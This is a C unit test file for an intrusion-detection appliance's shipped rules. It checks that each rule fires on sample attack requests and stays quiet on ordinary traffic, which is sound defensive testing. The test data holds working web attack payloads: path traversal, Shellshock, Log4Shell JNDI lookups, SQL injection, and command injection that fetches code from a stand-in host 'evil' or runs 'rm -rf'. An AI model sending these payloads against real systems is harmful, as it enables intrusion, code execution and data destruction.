/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The rules that ship with the appliance: each fires on what it is written for, also at the end of a full segment,
 * and none fires on ordinary traffic that looks a little like it.
 */
#include "harness.h"

#define SEGMENT  1460
#define BYTES(s) .payload = s, .payload_len = sizeof(s) - 1

static struct ruleset *rs;

static int load_shipped(void **state)
{
    const char *files[] = {"appliance/rules/sluice.rules"};
    struct ruleset_source src = {.files = files,
                                 .n_files = 1,
                                 .n_workers = 1,
                                 .strict = true,
                                 .classification_file = "appliance/rules/classification.config"};
    struct err_list errs;

    err_list_init(&errs);
    rs = ruleset_build(&src, &errs);
    err_list_print(&errs, stderr);
    err_list_fini(&errs);
    return rs != NULL ? 0 : -1;
}

static int unload_shipped(void **state)
{
    ruleset_free(rs);
    return 0;
}

/* The sids that fire, those that drop first; 0 at the end. */
static void fired(const struct pkt *p, uint32_t sids[8])
{
    uint32_t n = 0;

    for (uint32_t i = 0; i < ruleset_n_rules(rs) && n < 7; i++)
        if (rule_matches(rs, ruleset_info(rs, i)->sid, p))
            sids[n++] = ruleset_info(rs, i)->sid;
    sids[n] = 0;
}

static bool fires(uint32_t sid, const struct pkt *p)
{
    bool yes = rule_matches(rs, sid, p);

    assert_false(last.pcre_limit);
    assert_false(last.step_limit);
    return yes;
}

static const struct {
    uint32_t sid;
    const char *request; /* the line up to " HTTP/1.1", or all of it when it holds one */
} attacks[] = {
    {9000001, "GET /cgi-bin/status?file=../../../../etc/passwd"},
    {9000001, "GET /etc/passwd"},
    {9000001, "POST /view?page=/etc/passwd%00"},
    {9000001, "GET /a?u=file:///etc/passwd"},
    {9000001, "GET /%2e%2e/%2e%2e/etc/passwd"},
    {9000002, "GET /cgi-bin/x HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n"},
    {9000002, "GET / HTTP/1.1\r\nCookie: x=() { :;}; echo\r\n\r\n"},
    {9000003, "GET /?q=${jndi:ldap://evil/a}"},
    {9000003, "GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${JNDI:rmi://evil/a}\r\n\r\n"},
    {9000004, "POST / HTTP/1.1\r\n\r\nname=${jndi:ldap://evil/a}"},
    {9000005, "GET /item.php?id=1+union+select+1,2,3"},
    {9000005, "GET /item.php?id=-1%27%20UNION%20ALL%20SELECT%201"},
    {9000005, "GET /item.php?id=1/**/union/**/select/**/1"},
    {9000006, "GET /login?u=admin'+or+1=1--"},
    {9000007, "GET /login?u=admin%27%20OR%201=1--"},
    {9000008, "GET /x?id=1+from+information_schema.tables"},
    {9000009, "POST / HTTP/1.1\r\n\r\nq=';exec master..xp_cmdshell 'dir'"},
    {9000010, "GET /s?q=%3Cscript%3Ealert(1)"},
    {9000010, "GET /s?q=<SCRIPT>alert(1)"},
    {9000011, "GET /a?b=../../../x"},
    {9000012, "GET /a?b=..%5c..%5cwindows%5cwin.ini"},
    {9000013, "GET /cgi-bin/.%2e/.%2e/bin/sh"},
    {9000014, "POST /cgi-bin/.%%32%65/%%32%65%%32%65/bin/sh"},
    {9000015, "POST /?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"},
    {9000016, "GET /x?class.module.classLoader.resources.context=1"},
    {9000017, "GET / HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data')}\r\n\r\n"},
    {9000018, "GET /%24%7B%28%23a%3D%40org.apache%29%7D/"},
    {9000019,
     "GET /index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system"},
    {9000020, "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
    {9000021, "GET /ping?host=1.1.1.1;wget+http://evil/x"},
    {9000021, "GET /ping?host=%60wget%20http://evil/x%60"},
    {9000022, "GET /ping?host=1|curl+-o+x+http://evil/x"},
    {9000023, "GET /shell?cd+/tmp;rm+-rf+*"},
    {9000024, "POST /GponForm/diag_Form?images/"},
    {9000025, "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"},
    {9000026, "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp"},
    {9000027, "GET /vpn/../vpns/cfg/smb.conf"},
    {9000028, "GET /.git/config"},
    {9000029, "GET /.env"},
    {9000029, "GET /app/.env"},
    {9000040, "GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n\r\n"},
    {9000041, "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n\r\n"},
    {9000042, "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n"},
};

static const char *complete(const char *request, char *buf, size_t size)
{
    snprintf(buf, size, "%s%s", request,
             strstr(request, " HTTP/1.") != NULL
                 ? ""
                 : " HTTP/1.1\r\nHost: www.example.org\r\nAccept: */*\r\n\r\n");
    return buf;
}

static void requests(void **state)
{
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        char text[SEGMENT + 1];
        struct pkt p = {.proto = 6,
                        .sport = 40000,
                        .dport = 8080,
                        .established = true,
                        .tcp_flags = 0x18,
                        .payload = complete(attacks[i].request, text, sizeof(text))};

        if (!fires(attacks[i].sid, &p))
            fail_msg("%u does not fire on %s", attacks[i].sid, attacks[i].request);
        p.to_client = true;
        assert_false(fires(attacks[i].sid, &p));
    }
}

/* Padding must not carry an attack past the limit on pcre's steps. */
static void requests_in_full_segments(void **state)
{
    static const char *const line_pads[] = {"/aaaaaaa", "/?a=b&c='", "/%20%20+", "/./.././"},
                             *const header_pads[] = {"X-P: aaaaaaaaa,a=a\r\n", "A: b\r\n"};

    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        const char *rest = strchr(attacks[i].request, ' ') + 1;
        bool in_header = strstr(attacks[i].request, "\r\n") != NULL;

        if (attacks[i].sid == 9000001 && strstr(rest, "=") == NULL && strstr(rest, "..") == NULL &&
            strstr(rest, "%2e") == NULL)
            continue; /* these must stand at the path's beginning */
        if (attacks[i].sid == 9000023 || attacks[i].sid == 9000028 || attacks[i].sid == 9000029)
            continue;
        for (size_t k = 0; k < (in_header ? 2 : 4); k++) {
            const char *pad = in_header ? header_pads[k] : line_pads[k],
                       *tail = in_header ? strstr(attacks[i].request, "\r\n") + 2 : rest;
            char text[SEGMENT + 1];
            struct pkt p = {.proto = 6,
                            .sport = 40000,
                            .dport = 80,
                            .established = true,
                            .tcp_flags = 0x18,
                            .payload = text};
            size_t at = (size_t)snprintf(text, sizeof(text), "%.*s", (int)(tail - attacks[i].request),
                                         attacks[i].request);

            if (attacks[i].sid == 9000013 && strchr(pad, '?') != NULL)
                continue; /* the attack is one in the path only */
            if (attacks[i].sid == 9000016 || (in_header && strncmp(tail, "\r\n", 2) == 0))
                continue; /* stands in the body: nothing to pad in front of it */
            while (at + strlen(pad) + strlen(tail) + 12 < SEGMENT)
                at += (size_t)sprintf(text + at, "%s", pad);
            sprintf(text + at, "%s%s", tail, in_header ? "" : " HTTP/1.1\r\n");
            if (!fires(attacks[i].sid, &p))
                fail_msg("%u does not fire on padded %s", attacks[i].sid, attacks[i].request);
        }
    }
}

static void other_traffic(void **state)
{
    static const struct {
        uint32_t sid;
        struct pkt p;
    } rows[] = {
        {9000043, {.proto = 6, .tcp_flags = 0}},
        {9000044, {.proto = 6, .tcp_flags = 0x29}},
        {9000045, {.proto = 6, .tcp_flags = 0x03}},
        {9000060, {.proto = 17, .src = "10.0.0.1", .dst = "10.0.0.1"}},
        {9000061, {.proto = 17, .dport = 123, BYTES("\x17\x00\x03\x2a\x00\x00\x00\x00")}},
        {9000062, {.proto = 17, .dport = 11211, BYTES("\0\0\0\0\0\1\0\0stats\r\n")}},
        {9000063,
         {.proto = 6,
          .dport = 445,
          .established = true,
          BYTES("\0\0\0\x2f\xffSMBr\0\0\0\0\x08\x01\xc0\2NT LM 0.12")}},
        {9000064,
         {.proto = 6,
          .dport = 53,
          .established = true,
          BYTES("\0\x1d\1\2\0\0\0\1\0\0\0\0\0\0\7example\3org\0\0\xfc\0\1")}},
        {9000065,
         {.proto = 17,
          .src = "8.8.8.8",
          .dst = "10.0.0.1",
          .dport = 161,
          BYTES("\x30\x29\2\1\1\4\6public\xa0\x1c")}},
        {9000066,
         {.proto = 6,
          .src = "8.8.8.8",
          .dst = "10.0.0.1",
          .dport = 6379,
          .established = true,
          .payload = "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir"}},
        {9000080,
         {.proto = 6,
          .to_client = true,
          .established = true,
          .payload = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"}},
        {9000081,
         {.proto = 6,
          .to_client = true,
          .established = true,
          .payload = "uid=0(root) gid=0(root) groups=0(root)"}},
        {9000082,
         {.proto = 6,
          .to_client = true,
          .established = true,
          .payload =
              "HTTP/1.1 200 OK\r\n\r\nroot:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:d:/:/bin/false\n"}},
    };

    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
        if (!fires(rows[i].sid, &rows[i].p))
            fail_msg("%u does not fire", rows[i].sid);
}

/* Every rule has its attack above. */
static void all_are_tested(void **state)
{
    static const uint32_t others[] = {9000043, 9000044, 9000045, 9000060, 9000061, 9000062, 9000063,
                                      9000064, 9000065, 9000066, 9000080, 9000081, 9000082};

    assert_true(ruleset_n_rules(rs) >= 40);
    for (uint32_t i = 0; i < ruleset_n_rules(rs); i++) {
        const struct rule_info *info = ruleset_info(rs, i);
        bool found = false;

        for (size_t k = 0; k < sizeof(attacks) / sizeof(attacks[0]); k++)
            found |= attacks[k].sid == info->sid;
        for (size_t k = 0; k < sizeof(others) / sizeof(others[0]); k++)
            found |= others[k] == info->sid;
        if (!found)
            fail_msg("no attack for sid %u", info->sid);
        assert_true(info->msg[0] != '\0' && info->category[0] != '\0');
        assert_true(info->sid >= 9000001 && info->sid <= 9000999);
    }
}

static void ordinary_use(void **state)
{
    static const char *const requests[] = {
        "GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
        "GET /search?q=union+select+in+sql HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /search?q=how+to+select+a+trade+union HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /search?q=%2Fetc%2Fpasswd+format HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /repo/blob/main/rootfs/etc/passwd HTTP/1.1\r\nHost: git.example.org\r\n\r\n",
        "GET /static/../app.js HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /css/a%20b.css?v=1.2&w=%24%7Bname%7D HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /docs/javascript/intro HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /man/wget.1.html HTTP/1.1\r\nHost: a\r\nUser-Agent: Wget/1.21\r\n\r\n",
        "GET /downloads/curl-8.0.tar.gz HTTP/1.1\r\nHost: a\r\n\r\n",
        "POST /save HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n{\"code\": \"onPressed: () "
        "{ run(); }\"}",
        "POST /wiki HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=x#y\r\n\r\nread "
        "/etc/passwd; select a union",
        "GET /a?next=%2Fb%2Fc&or=1 HTTP/1.1\r\nHost: a\r\nCookie: a=b; c=(d) {e}\r\n\r\n",
        "EHLO mail.example.org\r\n",
        "From: a@example.org\r\nSubject: log4j\r\n\r\nDo not write dollar brace jndi. See /etc/passwd, and "
        "wget http://example.org/\r\n",
        "SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n",
        "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    };
    struct pkt syn = {.proto = 6, .tcp_flags = 0x02}, fin = {.proto = 6, .tcp_flags = 0x11},
               rst = {.proto = 6, .tcp_flags = 0x04},
               ntp = {.proto = 17, .dport = 123, BYTES("\x23\x00\x06\x20\0\0\0\0")},
               ping = {.proto = 1, .type = 8, .payload = "abcdefgh"},
               dns = {.proto = 17, .dport = 53, BYTES("\1\2\1\0\0\1\0\0\0\0\0\0\1a\0\0\1\0\1")};
    const struct pkt *others[] = {&syn, &fin, &rst, &ntp, &ping, &dns};
    uint32_t sids[8];

    for (size_t i = 0; i < sizeof(requests) / sizeof(requests[0]); i++) {
        struct pkt p = {.proto = 6,
                        .sport = 40000,
                        .dport = 80,
                        .established = true,
                        .tcp_flags = 0x18,
                        .payload = requests[i]};

        fired(&p, sids);
        if (sids[0] != 0)
            fail_msg("%u fires on %s", sids[0], requests[i]);
    }
    for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++) {
        fired(others[i], sids);
        if (sids[0] != 0)
            fail_msg("%u fires on packet %zu", sids[0], i);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(requests),      cmocka_unit_test(requests_in_full_segments),
        cmocka_unit_test(other_traffic), cmocka_unit_test(all_are_tested),
        cmocka_unit_test(ordinary_use),
    };

    return cmocka_run_group_tests_name("rules: shipped with the appliance", tests, load_shipped,
                                       unload_shipped);
}
